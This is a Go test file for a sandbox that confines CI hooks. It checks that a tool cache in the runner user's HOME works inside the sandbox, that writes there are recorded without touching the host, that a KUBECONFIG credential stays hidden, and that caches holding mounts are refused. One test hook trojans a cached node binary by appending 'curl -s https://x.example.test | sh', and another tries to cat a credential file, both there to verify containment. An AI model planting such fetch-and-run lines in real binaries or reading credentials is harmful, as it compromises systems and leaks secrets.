package escape

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestToolCacheInCallersHomeRunsAndIsRecorded: a self-hosted runner
// keeps its tool cache in its user's HOME (~/actions-runner/_work/_tool),
// which the run hides, showing its own HOME there. The tools setup-node
// put there were absent from the sandbox, so a hook that ran one failed
// where under Claude Code it runs, and a write to one failed with ENOENT,
// in no record. The tool cache is now shown at its path in that HOME, as
// an overlay of the scratch: the tool runs, the write is recorded by its
// absolute path, the directories made for its mount point are in no
// record, and the host's tool cache is untouched.
func TestToolCacheInCallersHomeRunsAndIsRecorded(t *testing.T) {
	requireBwrap(t)
	for _, r := range runners(t) {
		t.Run(r.name, func(t *testing.T) {
			home := filepath.Join("/home", fmt.Sprintf("vigiles-tch-%d", time.Now().UnixNano()))
			t.Cleanup(func() { os.RemoveAll(home) })
			work := filepath.Join(home, "actions-runner", "_work")
			dir := filepath.Join(work, "repo", "repo")
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			toolCacheInHome(t, r, home, dir, filepath.Join(work, "_tool"))
		})
	}
	if os.Geteuid() == 0 {
		// A root caller's HOME is /root, where the run's own HOME is
		// already: the tool cache is shown in it, the tree elsewhere.
		t.Run("root-whose-home-is-/root", func(t *testing.T) {
			tools := filepath.Join("/root", fmt.Sprintf("vigiles-tch-%d", time.Now().UnixNano()), "_tool")
			t.Cleanup(func() { os.RemoveAll(filepath.Dir(tools)) })
			toolCacheInHome(t, runners(t)[0], "/root", redteam27Tree(t, nil), tools)
		})
	}
}

// toolCacheInHome runs, as r with HOME=home in the tree dir, a hook that
// runs node from the tool cache tools, trojans it and drops npx beside
// it, and checks the record and the host's tool cache.
func toolCacheInHome(t *testing.T, r runner, home, dir, tools string) {
	t.Helper()
	bin := filepath.Join(tools, "node", "22.1.0", "x64", "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	node, npx := filepath.Join(bin, "node"), filepath.Join(bin, "npx")
	const nodeText = "#!/bin/sh\necho node v22.1.0\n"
	if err := os.WriteFile(node, []byte(nodeText), 0o755); err != nil {
		t.Fatal(err)
	}
	if r.owner != nil {
		// The runner's user's own HOME, tool cache and work tree.
		filepath.Walk(home, func(p string, _ os.FileInfo, _ error) error {
			return os.Lchown(p, int(r.owner.Uid), int(r.owner.Gid))
		})
	}
	// A root caller's sandbox of a root-owned tree runs as a uid of its
	// own, to which the tree and the tool cache are handed id-mapped.
	hook := node + " >/dev/null || exit 3; echo 'curl -s https://x.example.test | sh' >> " + node + " 2>/dev/null; echo x > " + npx + " 2>/dev/null; echo x > notes; exit 0"
	env := []string{"HOME=" + home, "RUNNER_TOOL_CACHE=" + tools}
	res, code := runVigiles(t, r, dir, env, "--", "sh", "-c", hook)
	if res.Tier != "confined" || code != 0 || res.Error != "" || res.Refusal != "" {
		t.Fatalf("tier %s, exit %d, error %q, refusal %q: want the tool in the caller's HOME to run\n%s", res.Tier, code, res.Error, res.Refusal, res.raw)
	}
	got := res.writeLines()
	want := []string{"create notes", "modify " + node, "create " + npx}
	if !slices.Equal(got, want) {
		t.Errorf("writes %q, want %q: the tool cache's by its path, and no directory made for a mount point\n%s", got, want, res.raw)
	}
	if b, err := os.ReadFile(node); err != nil || string(b) != nodeText {
		t.Errorf("the host's %s: %q, %v; want it as it was", node, b, err)
	}
	for _, p := range []string{npx, filepath.Join(dir, "notes")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s appeared on the host", p)
		}
	}
}

// TestToolCacheInCallersHomeHidesItsSecrets: a tool cache in the caller's
// HOME that holds a credential file the caller's environment names
// (KUBECONFIG), which the run hides, is not shown: bound whole from the
// host, it would show the file as the host has it.
func TestToolCacheInCallersHomeHidesItsSecrets(t *testing.T) {
	requireBwrap(t)
	r := runners(t)[0]
	home := filepath.Join("/home", fmt.Sprintf("vigiles-tchs-%d", time.Now().UnixNano()))
	t.Cleanup(func() { os.RemoveAll(home) })
	tools := filepath.Join(home, "actions-runner", "_work", "_tool")
	kube := filepath.Join(tools, "kube", "config")
	if err := os.MkdirAll(filepath.Dir(kube), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(kube, []byte("client-key-data: SECRET-rt-tch\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	dir := redteam27Tree(t, nil)
	if r.owner != nil {
		filepath.Walk(home, func(p string, _ os.FileInfo, _ error) error {
			return os.Lchown(p, int(r.owner.Uid), int(r.owner.Gid))
		})
	}
	env := []string{"HOME=" + home, "RUNNER_TOOL_CACHE=" + tools, "KUBECONFIG=" + kube}
	res, _ := runVigiles(t, r, dir, env, "--", "sh", "-c", "cat "+kube+"; ls "+tools)
	if res.Tier != "confined" || res.Refusal != "" {
		t.Fatalf("tier %s, refusal %q\n%s", res.Tier, res.Refusal, res.raw)
	}
	if strings.Contains(res.Stdout, "SECRET-rt-tch") || strings.Contains(res.Stdout, "kube") {
		t.Errorf("the hook read the tool cache's credential file, or listed it: %q", res.Stdout)
	}
}

// TestToolCacheWithAMountInsideIsRefused: a tool cache with a file system
// mounted inside it is refused, naming the mount, for every caller: the
// overlay's lower layer takes the tool cache's own mount alone, and the
// id-mapped hand-over to a root caller's sandbox clones it alone, so the
// command would see an empty directory where the host has the mount.
func TestToolCacheWithAMountInsideIsRefused(t *testing.T) {
	requireBwrap(t)
	requireRoot(t, "mounting a tmpfs inside the tool cache needs root")
	type place struct {
		runner     runner
		name, home string
	}
	var places []place
	for _, r := range runners(t) {
		places = append(places, place{r, r.name, "/opt"})
	}
	// Root's HOME, which the run hides: a mount there is not in the
	// init's view, only in the host's.
	places = append(places, place{runners(t)[0], "root-whose-home-is-/root", "/root"})
	for _, pl := range places {
		r := pl.runner
		t.Run(pl.name, func(t *testing.T) {
			tools := filepath.Join(pl.home, fmt.Sprintf("vigiles-tcm-%d", time.Now().UnixNano()))
			inside := filepath.Join(tools, "node")
			if err := os.MkdirAll(inside, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := syscall.Mount("tmpfs", inside, "tmpfs", 0, "size=1m"); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { syscall.Unmount(inside, syscall.MNT_DETACH); os.RemoveAll(tools) })
			if r.owner != nil {
				filepath.Walk(tools, func(p string, _ os.FileInfo, _ error) error {
					return os.Lchown(p, int(r.owner.Uid), int(r.owner.Gid))
				})
			}
			dir := redteam27Tree(t, nil)
			res, _ := runVigiles(t, r, dir, []string{"HOME=/root", "RUNNER_TOOL_CACHE=" + tools}, "--", "true")
			if !strings.Contains(res.Refusal, inside) || !strings.Contains(res.Refusal, "RUNNER_TOOL_CACHE") {
				t.Errorf("refusal %q: want the run refused, naming %s and the fix\n%s", res.Refusal, inside, res.raw)
			}
		})
	}
}

// TestToolCacheThatCannotBeIDMappedStaysAsTheRootShowsIt: a root
// caller's sandbox of a root-owned tree runs as a uid of its own, to which
// root's tool cache is handed id-mapped; one whose file system cannot be
// id-mapped (ramfs) is not covered, and the run goes on with it as the
// host's read-only root shows it: its tools run, a write there fails
// (security.md's honest limits), and the host's is untouched. Never a run
// refused for it, nor one left waiting for a hand-over that never comes.
func TestToolCacheThatCannotBeIDMappedStaysAsTheRootShowsIt(t *testing.T) {
	requireBwrap(t)
	requireRoot(t, "mounting a ramfs as the tool cache needs root")
	tools := fmt.Sprintf("/opt/vigiles-tci-%d", time.Now().UnixNano())
	if err := os.MkdirAll(tools, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mount("ramfs", tools, "ramfs", 0, "mode=755"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { syscall.Unmount(tools, syscall.MNT_DETACH); os.RemoveAll(tools) })
	node := filepath.Join(tools, "node")
	if err := os.WriteFile(node, []byte("#!/bin/sh\necho node\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	hook := node + " >/dev/null || exit 3; echo x >> " + node + " || exit 4; exit 0"
	res, code := runVigiles(t, runners(t)[0], redteam27Tree(t, nil), []string{"RUNNER_TOOL_CACHE=" + tools}, "--", "sh", "-c", hook)
	if res.Tier != "confined" || res.Refusal != "" || res.Error != "" || code != 4 {
		t.Fatalf("tier %s, refusal %q, error %q, exit %d: want the tool to run and the write to fail (exit 4)\n%s", res.Tier, res.Refusal, res.Error, code, res.raw)
	}
	if got := res.writeLines(); len(got) != 0 {
		t.Errorf("writes %q, want none", got)
	}
	if b, _ := os.ReadFile(node); string(b) != "#!/bin/sh\necho node\n" {
		t.Errorf("the host's %s holds %q", node, b)
	}
}
